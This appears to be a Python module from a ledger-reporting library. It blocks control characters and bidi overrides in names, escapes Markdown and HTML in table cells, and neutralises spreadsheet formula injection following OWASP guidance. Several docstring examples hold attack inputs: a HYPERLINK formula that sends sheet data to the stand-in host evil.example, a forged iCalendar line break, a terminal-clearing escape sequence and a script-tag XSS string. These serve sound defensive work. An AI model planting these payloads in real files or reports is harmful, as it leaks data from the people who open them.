r"""Text that is safe to store and safe to write: one place for both rules (private).

Two kinds of hostile text reach a library that reads ledgers and writes reports:

* **Control characters in names.** A name with a carriage return, a NUL or an
  escape sequence breaks line-oriented formats (an ``.ics`` reader that splits
  on ``\r`` sees a forged ``END:VEVENT``), rewrites a terminal, or hides text.
  :func:`check_name` refuses them where a name is created (procedure, agency,
  day-off and catalogue names) with :class:`~lapvo_cchc.errors.InvalidTextError`.
* **Formula injection.** A spreadsheet treats a text cell that begins with
  ``=``, ``+``, ``-`` or ``@`` (and tab or carriage return) as a formula:
  ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` sends the sheet's data
  away when clicked. :func:`spreadsheet_cell` prefixes such a text cell with a
  single quote, as the OWASP "CSV Injection" page recommends; every CSV and
  ``.xlsx`` writer of the library goes through it (docs/security.md).

:func:`visible` turns control characters into visible escapes for plain-text
and Markdown output, where refusing is not possible (the text is a value the
library did not create, such as a ledger cell quoted in an error message).

Example:
    >>> spreadsheet_cell("=1+1"), spreadsheet_cell(-5), spreadsheet_cell("Hộ tịch")
    ("'=1+1", -5, 'Hộ tịch')
    >>> visible("a\rb")
    'a\\rb'
"""

from __future__ import annotations

import re
import unicodedata
from typing import Final, TypeVar

from lapvo_cchc.errors import InvalidTextError

__all__ = [
    "FORMULA_TRIGGERS",
    "check_name",
    "has_control",
    "is_formula_text",
    "markdown_cell",
    "spreadsheet_cell",
    "spreadsheet_line",
    "visible",
]

FORMULA_TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00")
"""First characters that make a spreadsheet read a text cell as a formula.

``=``, ``+``, ``-``, ``@``, tab and carriage return are the OWASP list; a line
feed and NUL are added because some importers strip them before looking for
a formula (OWASP ASVS 5.0, requirement 1.2.10, names NUL).
"""

# Characters refused in names and escaped in text output: every C0 and C1 control
# (Unicode category Cc: NUL..US, DEL, U+0080..U+009F), the line and paragraph
# separators (Zl, Zp: line breaks for some parsers) and the bidirectional
# embeddings, overrides and isolates that reorder what a reader sees
# ("Trojan Source", CVE-2021-42574).
_BIDI: Final = frozenset("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
_REFUSED_CATEGORIES: Final = frozenset({"Cc", "Zl", "Zp"})
_ESCAPES: Final = {"\r": "\\r", "\n": "\\n", "\t": "\\t"}

_T = TypeVar("_T")


def _is_control(char: str) -> bool:
    return unicodedata.category(char) in _REFUSED_CATEGORIES or char in _BIDI


def has_control(text: str) -> bool:
    r"""Whether *text* holds a control character, a line/paragraph separator or a bidi override.

    Example:
        >>> has_control("Giỗ Tổ Hùng Vương"), has_control("a\x00b"), has_control("a\u202eb")
        (False, True, True)
    """
    if text.isprintable():  # fast path: no Cc, Zl, Zp and no bidi control (all Cf or Zl/Zp)
        return False
    return any(_is_control(char) for char in text)


def check_name(value: str, what: str) -> str:
    r"""Return *value* unchanged if it has no control character; refuse it otherwise.

    Args:
        value: A name about to be stored (a procedure, agency, day-off name...).
        what: Where it comes from, for the message (``"DayOff.name"``).

    Raises:
        InvalidTextError: *value* holds a control character (tab, line break,
            NUL, escape, U+0080-U+009F), a line or paragraph separator, or a
            bidirectional override; the message names the first one and its
            position.

    Example:
        >>> check_name("Tết Nguyên Đán", "DayOff.name")
        'Tết Nguyên Đán'
        >>> check_name("Tết\rEND:VEVENT", "DayOff.name")
        Traceback (most recent call last):
        ...
        lapvo_cchc.errors.InvalidTextError: DayOff.name: control character U+000D at position 3 ...
    """
    if has_control(value):
        at, char = next((i, c) for i, c in enumerate(value) if _is_control(c))
        raise InvalidTextError(
            f"{what}: control character U+{ord(char):04X} at position {at} in {value!r}; "
            "a name may not hold line breaks, tabs, NUL, escapes or bidirectional overrides"
        )
    return value


def visible(text: str) -> str:
    r"""*text* with every control character written as a visible escape (``\r``, ``\x1b``...).

    For plain-text output (an aligned report, a terminal): a ledger cell with
    ``\x1b[2J`` does not clear the reader's screen, a ``\r`` does not overwrite
    the start of its line.

    Example:
        >>> visible("Hộ tịch"), visible("x\x1b[2J"), visible("a\u2028b")
        ('Hộ tịch', 'x\\x1b[2J', 'a\\u2028b')
    """
    if not has_control(text):
        return text
    out = []
    for char in text:
        if not _is_control(char):
            out.append(char)
        elif char in _ESCAPES:
            out.append(_ESCAPES[char])
        elif ord(char) < 0x100:
            out.append(f"\\x{ord(char):02x}")
        else:
            out.append(f"\\u{ord(char):04x}")
    return "".join(out)


# Characters with a meaning inside a Markdown table cell: the escape character, code
# spans, emphasis, links and images, the cell separator; the HTML-significant ones
# become entities, so "<script>" or "[x](javascript:...)" in a label stays text.
_MARKDOWN: Final = str.maketrans(
    {
        "\\": "\\\\",
        "`": "\\`",
        "*": "\\*",
        "_": "\\_",
        "[": "\\[",
        "]": "\\]",
        "|": "\\|",
        "&": "&amp;",
        "<": "&lt;",
        ">": "&gt;",
    }
)


def markdown_cell(text: str) -> str:
    r"""*text* for a Markdown table cell: controls made visible, Markdown and HTML escaped.

    Example:
        >>> print(markdown_cell("<script>alert(1)</script> | [x](javascript:y) *b*"))
        &lt;script&gt;alert(1)&lt;/script&gt; \| \[x\](javascript:y) \*b\*
    """
    return visible(text).translate(_MARKDOWN)


def is_formula_text(value: object) -> bool:
    """Whether *value* is text that a spreadsheet would read as a formula.

    The ``.xlsx`` writer marks such a cell as quoted text (Excel's
    ``quotePrefix``, what typing a leading ``'`` does) instead of adding the
    quote to its content; CSV has no such mark, so :func:`spreadsheet_cell`
    adds the quote.

    Example:
        >>> [is_formula_text(v) for v in ("=1+1", "@x", -1, "a")]
        [True, True, False, False]
    """
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def spreadsheet_cell(value: _T) -> _T | str:
    """Neutralise a text cell bound for a spreadsheet (CSV or ``.xlsx``); other values unchanged.

    A string that begins with one of :data:`FORMULA_TRIGGERS` gets a leading
    single quote, which spreadsheets read as "this cell is text" and do not
    show. Numbers (``int``, ``float``, ``Fraction``...) and ``None`` are
    returned as they are, so a negative count stays a number; only text is
    changed. The rule is OWASP's "CSV Injection" recommendation.

    Example:
        >>> print(spreadsheet_cell('=HYPERLINK("http://evil.example/?x="&A1,"click")'))
        '=HYPERLINK("http://evil.example/?x="&A1,"click")
        >>> spreadsheet_cell("-5"), spreadsheet_cell(-5), spreadsheet_cell(None)
        ("'-5", -5, None)
    """
    if is_formula_text(value):
        return "'" + str(value)
    return value


_SEPARATORS: Final = re.compile(r"([,;\t])")


def spreadsheet_line(text: str) -> str:
    r"""A line of text that stays inert if a spreadsheet imports it as CSV.

    Messages such as ``lapvo-cchc validate``'s are plain text, but people save
    them as ``.csv``: each piece between commas, semicolons or tabs would then
    be a cell, and a quoted ledger value like ``'a,=HYPERLINK(...)'`` would
    start one with ``=``. Each piece goes through :func:`spreadsheet_cell`;
    control characters are made visible (:func:`visible`).

    Example:
        >>> print(spreadsheet_line("line 3, column field: got 'a,=HYPERLINK(\"x\")'"))
        line 3, column field: got 'a,'=HYPERLINK("x")'
    """
    pieces = _SEPARATORS.split(visible(text))
    return "".join(str(spreadsheet_cell(piece)) for piece in pieces)
